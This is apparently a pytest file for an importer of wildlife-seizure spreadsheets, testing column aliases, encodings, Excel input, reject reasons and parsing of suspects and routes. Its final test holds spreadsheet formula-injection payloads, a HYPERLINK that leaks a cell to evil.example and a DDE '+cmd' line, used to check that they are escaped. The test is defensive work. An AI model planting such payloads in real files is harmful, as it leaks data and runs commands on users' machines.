"""Reading seizure sheets: column aliases, encodings, Excel, and a reason for every reject."""

from __future__ import annotations

import codecs
import csv
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import Workbook

from wildtrace.errors import InputError
from wildtrace.ops.importer import FIELD_ALIASES, match_columns, parse_mapping, read_seizures, write_rejects
from wildtrace.ops.model import RejectedRow

TODAY = date(2026, 1, 1)
HEADER = ["date", "country", "commodity", "quantity", "unit", "value_usd"]


def _csv(path: Path, header: list[str], rows: list[list[str]], delimiter: str = ",") -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle, delimiter=delimiter)
        writer.writerow(header)
        writer.writerows(rows)
    return path


ALIASES = sorted({(alias, name) for name, aliases in FIELD_ALIASES.items() for alias in aliases})


@pytest.mark.parametrize(("alias", "field"), ALIASES)
def test_each_alias_names_its_field(alias: str, field: str) -> None:
    assert match_columns(["Unrelated column", alias]) == {1: field}
    # case, spacing and accents do not matter
    assert match_columns([f"  {alias.upper()}  "]) == {0: field}


def test_map_option_names_columns_the_aliases_miss() -> None:
    mapping = parse_mapping(["qty=quantity", "Land der Beschlagnahme=country"])
    assert match_columns(["Qty", "land der beschlagnahme"], mapping) == {0: "quantity", 1: "country"}
    with pytest.raises(ValueError, match="COLUMN=FIELD"):
        parse_mapping(["qty"])
    with pytest.raises(ValueError, match="COLUMN=FIELD"):
        parse_mapping(["qty=weight_in_stone"])


def test_multilingual_headers_and_values(tmp_path: Path) -> None:
    path = _csv(
        tmp_path / "fr.csv",
        ["Date de saisie", "Pays", "Marchandise", "Quantité", "Unité", "Valeur"],
        [["12/03/2025", "Tanzanie", "ivoire", "2,5", "kg", "1 000"]],
        delimiter=";",
    )
    result = read_seizures(path, date_order="dmy", today=TODAY)
    assert not result.rejects
    seizure = result.rows[0].seizure
    assert (seizure.seized_on, seizure.country, seizure.commodity, seizure.kg, seizure.value_usd) == (
        date(2025, 3, 12),
        "TZ",
        "ivory",
        2.5,
        1000.0,
    )
    assert result.rows[0].row == 2


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"])
@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_encodings_and_delimiters(tmp_path: Path, encoding: str, delimiter: str) -> None:
    text = (
        delimiter.join(HEADER)
        + "\n"
        + delimiter.join(["2025-03-01", "Việt Nam", "vảy tê tê", "3", "kg", ""])
        + "\n"
    )
    data = text.encode(encoding)
    if encoding in ("utf-16-le", "utf-16-be"):  # no BOM: found by its NUL bytes
        assert not data.startswith((codecs.BOM_UTF16_LE, codecs.BOM_UTF16_BE))
    path = tmp_path / "in.csv"
    path.write_bytes(data)
    result = read_seizures(path, today=TODAY)
    assert [(r.seizure.country, r.seizure.commodity, r.seizure.kg) for r in result.rows] == [
        ("VN", "pangolin", 3.0)
    ]


def test_not_unicode_rejects_the_line_and_encoding_reads_it(tmp_path: Path) -> None:
    path = tmp_path / "latin1.csv"
    path.write_bytes(b"date,country,commodity\n2025-01-01,C\xf4te d'Ivoire,ivory\n2025-01-02,Kenya,ivory\n")
    result = read_seizures(path, today=TODAY)  # the good row is kept, the bad one named
    assert [row.seizure.country for row in result.rows] == ["KE"]
    [reject] = result.rejects
    assert reject.row == 2 and reject.reason.startswith("not UTF-8: byte 0xf4")
    assert "--encoding" in reject.reason
    latin1 = read_seizures(path, today=TODAY, encoding="latin-1")
    assert [row.seizure.country for row in latin1.rows] == ["CI", "KE"] and not latin1.rejects


def test_missing_required_columns_is_an_input_error(tmp_path: Path) -> None:
    path = _csv(tmp_path / "x.csv", ["when", "where", "what"], [["2025-01-01", "KE", "ivory"]])
    with pytest.raises(InputError, match=r"no column for date, country, commodity.*--map"):
        read_seizures(path, today=TODAY)


def test_excel_dates_serials_sheets_and_numbers(tmp_path: Path) -> None:
    workbook = Workbook()
    first = workbook.active
    assert first is not None
    first.title = "notes"
    first.append(["nothing here"])
    sheet = workbook.create_sheet("Saisies")
    sheet.append([None])
    sheet.append(["Fecha", "País", "Producto", "Cantidad", "Unidad", "Valor"])
    sheet.append([datetime(2025, 3, 12), "España", "marfil", 2.5, "kg", 1000])
    sheet.append([45728, "México", "totoaba", 16, "oz", None])
    sheet.append(["12/03/2025", "Perú", "madera", 3, "t", "2,000"])
    path = tmp_path / "s.xlsx"
    workbook.save(path)
    result = read_seizures(path, sheet="Saisies", date_order="dmy", today=TODAY)
    assert not result.rejects
    got = [
        (
            r.row,
            r.seizure.seized_on,
            r.seizure.country,
            r.seizure.commodity,
            r.seizure.kg,
            r.seizure.value_usd,
        )
        for r in result.rows
    ]
    assert got == [
        (3, date(2025, 3, 12), "ES", "ivory", 2.5, 1000.0),
        (4, date(2025, 3, 12), "MX", "totoaba", pytest.approx(16 * 0.028349523125), None),
        (5, date(2025, 3, 12), "PE", "timber", 3000.0, 2000.0),
    ]
    with pytest.raises(InputError, match="no sheet 'Nope'"):
        read_seizures(path, sheet="Nope", today=TODAY)


GOOD = {
    "date": "2025-03-01",
    "country": "Kenya",
    "commodity": "ivory",
    "quantity": "2",
    "unit": "kg",
    "value_usd": "",
    "trade_term": "",
    "transport_mode": "",
    "origin": "",
    "transit": "",
    "destination": "",
    "suspects": "",
    "outcomes": "",
    "latitude": "",
    "longitude": "",
}

REASONS = [
    ({"unit": "bags"}, "unknown unit 'bags'"),
    ({"date": "2025-02-30"}, "impossible date '2025-02-30'"),
    ({"date": "03/04/2025"}, "ambiguous date '03/04/2025'"),
    ({"date": "2031-01-01"}, "is in the future"),
    ({"date": ""}, "date missing"),
    ({"quantity": "-5"}, "negative quantity -5"),
    ({"quantity": "0"}, "quantity is zero"),
    ({"quantity": "lots"}, "quantity 'lots' is not a number"),
    ({"unit": ""}, "unit missing for the quantity"),
    ({"country": "Xyzland"}, "unknown country 'Xyzland'"),
    ({"country": ""}, "country missing"),
    ({"origin": "Atlantis"}, "unknown origin country 'Atlantis'"),
    ({"destination": "Mars"}, "unknown destination country 'Mars'"),
    ({"transit": "SG; Narnia"}, "unknown transit country 'Narnia'"),
    ({"commodity": ""}, "commodity missing"),
    ({"trade_term": "XYZ"}, "unknown CITES trade term 'XYZ'"),
    ({"transport_mode": "teleport"}, "unknown transport mode 'teleport'"),
    ({"value_usd": "-10"}, "negative value_usd -10"),
    ({"value_usd": "a lot"}, "value_usd 'a lot' is not an amount"),
    ({"latitude": "95"}, "latitude 95 out of range"),
    ({"longitude": "-200"}, "longitude -200 out of range"),
    ({"suspects": "2.5"}, "suspects '2.5': a count must be a whole number"),
    ({"suspects": "A (KE)", "outcomes": "flogged 2025-03-02"}, "outcome 'flogged 2025-03-02'"),
    ({"suspects": "A (KE)", "outcomes": "arrest 2025-02-30"}, "impossible date"),
    ({"outcomes": "arrest 2025-03-02"}, "outcomes given without named suspects"),
]


@pytest.mark.parametrize(("change", "reason"), REASONS)
def test_each_bad_row_is_rejected_with_file_row_and_reason(
    tmp_path: Path, change: dict[str, str], reason: str
) -> None:
    bad = {**GOOD, **change}
    path = _csv(
        tmp_path / "in.csv", list(GOOD), [list(GOOD.values()), list(bad.values()), list(GOOD.values())]
    )
    result = read_seizures(path, today=TODAY)
    assert [r.row for r in result.rows] == [2, 4]  # the good rows are kept
    assert len(result.rejects) == 1
    reject = result.rejects[0]
    assert (reject.file, reject.row) == (str(path), 3)
    assert reason in reject.reason
    assert reject.raw["country"] == bad["country"]


def test_a_row_with_more_cells_than_the_header_is_rejected(tmp_path: Path) -> None:
    path = tmp_path / "in.csv"
    path.write_text("date;country;commodity;suspects\n2025-03-01;KE;ivory;A (KE); B (TZ)\n", encoding="utf-8")
    result = read_seizures(path, today=TODAY)
    assert [r.reason for r in result.rejects] == [
        "row has 5 cells but the header has 4 (a delimiter inside a cell?)"
    ]


def test_commodity_from_species_or_trade_term_and_live_counts(tmp_path: Path) -> None:
    header = ["date", "country", "commodity", "species", "trade_term", "quantity", "unit"]
    rows = [
        ["2025-03-01", "KE", "", "Manis tricuspis", "", "3", "kg"],
        ["2025-03-01", "KE", "", "", "TUS", "4", "pcs"],
        ["2025-03-01", "KE", "", "Geochelone elegans", "LIV", "30", "pcs"],
        ["2025-03-01", "KE", "live reptiles", "", "", "7", "pcs"],
        ["2025-03-01", "KE", "ornamental fish", "", "", "9", "pcs"],
    ]
    result = read_seizures(_csv(tmp_path / "in.csv", header, rows), today=TODAY)
    got = [
        (r.seizure.commodity, r.seizure.trade_term, r.seizure.kg, r.seizure.pieces, r.seizure.live)
        for r in result.rows
    ]
    assert got == [
        ("pangolin", None, 3.0, None, None),
        ("ivory", "TUS", None, 4.0, None),
        ("other", "LIV", None, None, 30.0),
        ("live_reptile", None, None, None, 7.0),
        ("other", None, None, 9.0, None),
    ]


def test_suspects_routes_outcomes_and_online_links(tmp_path: Path) -> None:
    header = [
        "date",
        "country",
        "commodity",
        "suspects",
        "outcomes",
        "origin",
        "transit",
        "destination",
        "transport",
        "listings",
        "accounts",
    ]
    rows = [
        [
            "2025-03-01",
            "KE",
            "ivory",
            "Juma Demo (TZ, courier); Kestrel Demo Logistics Ltd",
            "arrest 2025-03-02; conviction 2025-06-01 5 years",
            "Tanzania",
            "Ethiopia -> Qatar",
            "Viet Nam",
            "passenger luggage",
            "demo-1 https://x.example/2",
            "telegram:abc; seller9",
        ]
    ]
    seizure = read_seizures(_csv(tmp_path / "in.csv", header, rows), today=TODAY).rows[0].seizure
    names = [(s.name, s.kind, s.nationality, s.role) for s in seizure.suspects]
    assert names == [
        ("Juma Demo", "person", "TZ", "courier"),
        ("Kestrel Demo Logistics Ltd", "company", None, None),
    ]
    assert [(o.kind, o.occurred_on, o.detail) for o in seizure.outcomes] == [
        ("arrest", date(2025, 3, 2), None),
        ("conviction", date(2025, 6, 1), "5 years"),
    ]
    assert (seizure.origin, seizure.transit, seizure.destination) == ("TZ", ("ET", "QA"), "VN")
    assert seizure.transport_mode == "air_passenger"
    assert seizure.listings == ("demo-1", "https://x.example/2")
    assert seizure.accounts == ("telegram:abc", "seller9")


def test_fingerprint_ignores_how_a_line_was_written(tmp_path: Path) -> None:
    one = _csv(
        tmp_path / "a.csv",
        ["date", "country", "commodity", "quantity"],
        [["2025-03-01", "Kenya", "ivory", "2 kg"]],
    )
    two = _csv(
        tmp_path / "b.csv",
        ["Fecha", "País", "Producto", "Cantidad", "Unidad"],
        [["1 March 2025", "KEN", "marfil", "2", "kg"]],
    )
    first = read_seizures(one, today=TODAY).rows[0].seizure
    second = read_seizures(two, today=TODAY).rows[0].seizure
    assert first.fingerprint() == second.fingerprint()
    assert (
        first.fingerprint()
        != read_seizures(
            _csv(
                tmp_path / "c.csv",
                ["date", "country", "commodity", "quantity"],
                [["2025-03-01", "Kenya", "ivory", "3 kg"]],
            ),
            today=TODAY,
        )
        .rows[0]
        .seizure.fingerprint()
    )


def test_rejects_csv_cannot_carry_spreadsheet_formulas(tmp_path: Path) -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    rejects = [
        RejectedRow(
            "s.csv", 2, "unknown origin", {"@cmd": hostile, "qty": "-5", "note": "+cmd|' /C calc'!A0"}
        ),
    ]
    out = tmp_path / "rejects.csv"
    write_rejects(out, rejects, ["@cmd", "qty", "note"])
    with out.open(encoding="utf-8", newline="") as handle:
        header, row = list(csv.reader(handle))
    assert header == ["file", "row", "reason", "'@cmd", "qty", "note"]
    assert row == ["s.csv", "2", "unknown origin", "'" + hostile, "-5", "'+cmd|' /C calc'!A0"]
